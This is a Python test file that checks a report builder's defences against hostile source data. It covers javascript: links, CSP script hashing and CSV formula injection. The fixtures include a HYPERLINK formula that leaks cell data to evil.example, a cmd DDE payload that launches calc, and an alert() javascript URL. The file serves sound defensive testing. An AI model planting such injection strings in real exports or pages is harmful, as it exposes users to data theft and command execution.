"""Attacks on the report (issue 10, holes 3 and 9), on SYNTHETIC evidence.

On the old main a source URL ``javascript:...`` became a live link, the CSP
allowed ``'unsafe-inline'`` scripts, and a text cell ``=HYPERLINK(...)`` reached
the data/ CSVs unchanged.
"""

from __future__ import annotations

import base64
import dataclasses
import hashlib
import re
from pathlib import Path

import pandas as pd
import pytest

from transplant_audit.report.build import Analyses, assemble, write_report
from transplant_audit.report.fmt import spreadsheet_safe, spreadsheet_safe_cell
from transplant_audit.report.html import render_html

from .conftest import make_synthetic_evidence

JS_URL = "javascript:alert(document.domain)//"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture(scope="module")
def hostile_report():
    ev = make_synthetic_evidence()
    sources = ev.sources.copy()
    sources.loc[0, "url"] = JS_URL
    sources.loc[1, "title"] = FORMULA
    sources.loc[2, "publisher"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    ev = dataclasses.replace(ev, sources=sources)
    return assemble(ev, Analyses(), draws=500, seed=7)


@pytest.fixture(scope="module")
def hostile_html(hostile_report) -> str:
    return render_html(hostile_report, version="test", command="transplant-audit report")


def test_javascript_url_is_text_not_a_link(hostile_html: str) -> None:
    assert JS_URL in hostile_html  # still shown, as text
    assert not re.search(r"href\s*=\s*[\"']?\s*javascript:", hostile_html, re.I)
    hrefs = re.findall(r'href="([^"#][^"]*)"', hostile_html)
    assert hrefs, "the synthetic https sources should still be links"
    assert all(h.startswith(("https://", "http://")) for h in hrefs), hrefs


def _csp(html: str) -> str:
    m = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)"', html)
    assert m, "no CSP meta tag"
    return m.group(1)


def test_csp_has_no_unsafe_inline_scripts_and_hashes_every_script(hostile_html: str) -> None:
    directives = dict(
        (d.strip().split(" ", 1) + [""])[:2] for d in _csp(hostile_html).split(";") if d.strip()
    )
    script_src = directives["script-src"]
    assert "'unsafe-inline'" not in script_src
    assert directives["default-src"] == "'none'"
    bodies = re.findall(r"<script>(.*?)</script>", hostile_html, re.S)
    assert len(bodies) >= 2  # the Vega bundle and the page's own script
    for body in bodies:
        digest = base64.b64encode(hashlib.sha256(body.encode("utf-8")).digest()).decode()
        assert f"'sha256-{digest}'" in script_src


def test_data_csvs_neutralise_formulas_but_json_keeps_text(tmp_path: Path, hostile_report):
    files = write_report(hostile_report, tmp_path / "r", pdf=False)
    csv_text = "\n".join(p.read_text("utf-8") for p in files.data.glob("*.csv"))
    assert "HYPERLINK" in csv_text  # the hostile title is exported ...
    assert not re.search(r'(^|,)"?=HYPERLINK', csv_text, re.M)  # ... never as a formula
    assert "'=HYPERLINK" in csv_text
    assert not re.search(r'(^|,)"?@SUM', csv_text, re.M)
    json_text = "\n".join(p.read_text("utf-8") for p in files.data.glob("*.json"))
    assert '"=HYPERLINK' in json_text  # JSON is for programs: exact text


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-12.5", "-12.5"),
        ("+3", "+3"),
        ("plain", "plain"),
        (-7, -7),
        (2.5, 2.5),
    ],
)
def test_spreadsheet_safe_cell(cell, expected) -> None:
    assert spreadsheet_safe_cell(cell) == expected


def test_numbers_untouched_in_frames() -> None:
    df = pd.DataFrame({"n": [-1.5, 2.0], "t": ["=x", "ok"]})
    out = spreadsheet_safe(df)
    assert out["n"].tolist() == [-1.5, 2.0] and out["n"].dtype == df["n"].dtype
    assert out["t"].tolist() == ["'=x", "ok"]
    assert df["t"].tolist() == ["=x", "ok"]  # the input is not modified
